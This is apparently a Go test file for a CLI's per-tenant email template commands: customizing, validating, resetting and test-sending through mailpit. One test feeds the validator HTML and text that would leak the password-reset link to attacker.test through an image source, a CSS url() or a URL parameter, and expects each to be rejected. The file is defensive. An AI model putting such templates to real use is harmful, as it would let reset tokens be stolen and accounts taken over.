package main

import (
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/nself/nself/internal/blob/blobtest"
	"github.com/nself/nself/internal/pgtest"
)

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestWhitelabelEmail(t *testing.T) {
	t.Parallel()
	c := newCLI(t, pgtest.NewURLs(t))
	c.ok("tenant", "create", "Acme", "--slug", "acme")
	c.ok("tenant", "create", "Beta", "--slug", "beta")

	out := c.ok("whitelabel", "email", "list", "acme")
	mustMatch(t, out, `\ATEMPLATE +VERSION +UPDATED +SUBJECT\n─+\n`, `^welcome +default +- +Welcome to \{\{TENANT_NAME\}\}!$`,
		`^password_reset +default `, `^invitation +default `, `^payment_failed +default `, `^quota_warning +default `)

	page := writeFile(t, "welcome.html", "<h1>Hello <<USER_NAME>></h1>\n<p><a href=\"{{ACTION_URL}}\">Start</a></p>\n")
	mustMatch(t, c.ok("whitelabel", "email", "customize", "acme", "welcome", "--subject", "Welcome to {{TENANT_NAME}}!!", "--template-file", page),
		`^✓ Email template customized: welcome for acme \(text derived from the HTML\)$`, `^  Subject: Welcome to \{\{TENANT_NAME\}\}!!$`)
	out = c.ok("whitelabel", "email", "show", "acme", "welcome")
	mustMatch(t, out, `^Template: welcome \(customized \d{4}-\d\d-\d\d \d\d:\d\d\)$`, `^Subject: Welcome to \{\{TENANT_NAME\}\}!!$`,
		`^<h1>Hello <<USER_NAME>></h1>$`, `^--- Text ---\nHello <<USER_NAME>>\n\nStart: \{\{ACTION_URL\}\}$`)
	mustMatch(t, c.ok("whitelabel", "email", "list", "acme"), `^welcome +customized +\d{4}-\d\d-\d\d +Welcome to \{\{TENANT_NAME\}\}!!$`)
	// The other tenant keeps the default.
	mustMatch(t, c.ok("whitelabel", "email", "show", "beta", "welcome"), `^Template: welcome \(default\)$`, `^Subject: Welcome to \{\{TENANT_NAME\}\}!$`)

	// Without --subject the subject stays; a text file is used as given.
	text := writeFile(t, "welcome.txt", "Plain hello {{USER_NAME}}\n")
	mustMatch(t, c.ok("whitelabel", "email", "customize", "acme", "welcome", "--template-file", page, "--text-file", text),
		`\(text from --text-file\)$`, `^  Subject: Welcome to \{\{TENANT_NAME\}\}!!$`)
	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "welcome"), `^--- Text ---\nPlain hello \{\{USER_NAME\}\}$`)

	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"customize", "acme", "welcome", "--template-file", writeFile(t, "bad.html", "<p>ok</p>\n<p>{{FIRST_NAME}}</p>")},
			1, `^error: unknown variable FIRST_NAME on line 2 \(known: TENANT_NAME, `},
		{[]string{"customize", "acme", "welcome", "--template-file", writeFile(t, "open.html", "<p>{{TENANT_NAME</p>")},
			1, `^error: .*unclosed variable "\{\{TENANT_NAME</p>" \(missing \}\}\) on line 1$`},
		{[]string{"customize", "acme", "welcome", "--subject", "Hi {{X}}", "--template-file", page}, 1, `unknown variable X on line 1`},
		{[]string{"customize", "acme", "welcome", "--subject", strings.Repeat("s", 201), "--template-file", page}, 1, `longer than 200 characters`},
		{[]string{"customize", "acme", "newsletter", "--template-file", page}, 1, `^error: no email template "newsletter" \(known: welcome, `},
		{[]string{"customize", "acme", "welcome"}, 2, `--template-file is required`},
		{[]string{"customize", "acme", "welcome", "--template-file", "/nonexistent.html"}, 1, `--template-file: `},
		{[]string{"show", "nope", "welcome"}, 1, `not found`},
		{[]string{"test", "acme", "welcome"}, 2, `--to is required`},
	} {
		r := c.run("", append([]string{"whitelabel", "email"}, tc.args...)...)
		if r.code != tc.code || strings.Count(r.err, "\n") != 1 {
			t.Errorf("%v: exit %d, stderr %q", tc.args, r.code, r.err)
		}
		mustMatch(t, r.err, tc.want)
	}

	mustMatch(t, c.ok("whitelabel", "email", "reset", "acme", "welcome"), `^✓ Email template reset: welcome of acme is the default again$`)
	mustMatch(t, c.ok("whitelabel", "email", "reset", "acme", "welcome"), `^✓ Email template welcome of acme is already the default$`)
	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "welcome"), `^Template: welcome \(default\)$`)
}

// The operator's command applies the same link rules as the portal: the
// reset link only as a link's whole address, never where a mail reader
// would send it elsewhere.
func TestWhitelabelEmailLinkRules(t *testing.T) {
	t.Parallel()
	c := newCLI(t, pgtest.NewURLs(t))
	c.ok("tenant", "create", "Acme", "--slug", "acme")
	for _, tc := range []struct {
		name, html, subject, text, want string
	}{
		{"img", `<img src="https://attacker.test/p.gif?u={{ACTION_URL}}">`, "", "",
			`^error: \{\{ACTION_URL\}\} on line 1 is in the src attribute of <img>: it may only be the whole address of a link`},
		{"angle spelling", `<p style="background:url(<< ACTION_URL >>)">x</p>`, "", "", `in the style attribute of <p>`},
		{"parameter", `<a href="https://attacker.test/?u={{ACTION_URL}}">x</a>`, "", "", `part of a longer address`},
		{"subject", `<a href="{{ACTION_URL}}">x</a>`, "Reset {{ACTION_URL}}", "", `^error: the subject cannot hold \{\{ACTION_URL\}\}`},
		{"text", `<a href="{{ACTION_URL}}">x</a>`, "", "https://attacker.test/?u={{ACTION_URL}}\n", `plain-text body is joined to other text`},
	} {
		args := []string{"whitelabel", "email", "customize", "acme", "password_reset", "--template-file", writeFile(t, tc.name+".html", tc.html)}
		if tc.subject != "" {
			args = append(args, "--subject", tc.subject)
		}
		if tc.text != "" {
			args = append(args, "--text-file", writeFile(t, tc.name+".txt", tc.text))
		}
		r := c.run("", args...)
		if r.code != 1 || strings.Count(r.err, "\n") != 1 {
			t.Errorf("%s: exit %d, stderr %q", tc.name, r.code, r.err)
		}
		mustMatch(t, r.err, tc.want)
	}
	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "password_reset"), `^Template: password_reset \(default\)$`)
	page := writeFile(t, "ok.html", `<p><a href="{{ACTION_URL}}">Choose a new password</a></p>`)
	c.ok("whitelabel", "email", "customize", "acme", "password_reset", "--template-file", page)
	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "password_reset"), `^--- Text ---\nChoose a new password: \{\{ACTION_URL\}\}$`)
}

// email test sends through the real SMTP server (mailpit); the message is
// read back through mailpit's API.
func TestWhitelabelEmailTestThroughSMTP(t *testing.T) {
	t.Parallel()
	api := os.Getenv("MAILPIT_URL")
	if api == "" || os.Getenv("SMTP_HOST") == "" {
		t.Fatal("SMTP_HOST, SMTP_PORT and MAILPIT_URL must be set: run `make test`")
	}
	c := newCLI(t, pgtest.NewURLs(t), append(blobtest.Env(t), "SMTP_HOST="+os.Getenv("SMTP_HOST"), "SMTP_PORT="+os.Getenv("SMTP_PORT"),
		"SMTP_FROM=no-reply@example.test", "PUBLIC_SCHEME=http", "PUBLIC_PORT=8080")...)
	c.ok("tenant", "create", "Acme & Co", "--slug", "acme")
	// The tenant's look: its color and its logo for email.
	c.ok("whitelabel", "brand", "set", "acme", "--primary-color", "#FF6B35")
	c.ok("whitelabel", "logo", "upload", "acme", pngFile(t, "mail-logo.png", 120, 40), "--type", "email")
	page := writeFile(t, "welcome.html", `<p>Hello <<USER_NAME>> of <strong>{{TENANT_NAME}}</strong></p><p><a href="{{ACTION_URL}}">Start</a></p>`+
		`<p style="color:{{PRIMARY_COLOR}}"><img src="{{LOGO_URL}}" alt="logo"></p>`)
	c.ok("whitelabel", "email", "customize", "acme", "welcome", "--subject", "Welcome to {{TENANT_NAME}}!", "--template-file", page)

	// mailpit is shared by every test: an address of its own finds this mail.
	to := "email-test-" + uuid.NewString()[:8] + "@example.test"
	mustMatch(t, c.ok("whitelabel", "email", "test", "acme", "welcome", "--to", to), `^✓ Test email sent to `+to+`: Welcome to Acme & Co!$`)

	var found struct {
		Messages []struct {
			ID      string
			Subject string
		}
	}
	deadline := time.Now().Add(10 * time.Second)
	for len(found.Messages) == 0 {
		if time.Now().After(deadline) {
			t.Fatalf("no mail to %s arrived at mailpit", to)
		}
		getJSON(t, api+"/api/v1/search?query="+url.QueryEscape("to:"+to), &found)
		time.Sleep(100 * time.Millisecond)
	}
	if found.Messages[0].Subject != "Welcome to Acme & Co!" {
		t.Errorf("subject = %q", found.Messages[0].Subject)
	}
	var msg struct{ HTML, Text string }
	getJSON(t, api+"/api/v1/message/"+found.Messages[0].ID, &msg)
	for _, want := range []string{"Hello Ann Example of <strong>Acme &amp; Co</strong>", `href="http://acme.example.test:8080/"`,
		`color:#ff6b35`, `<img src="http://acme.example.test:8080/logo/email?v=`} {
		if !strings.Contains(msg.HTML, want) {
			t.Errorf("HTML part lacks %s: %q", want, msg.HTML)
		}
	}
	if !strings.Contains(msg.Text, "Hello Ann Example of Acme & Co") || !strings.Contains(msg.Text, "Start: http://acme.example.test:8080/") {
		t.Errorf("text part = %q", msg.Text)
	}
}
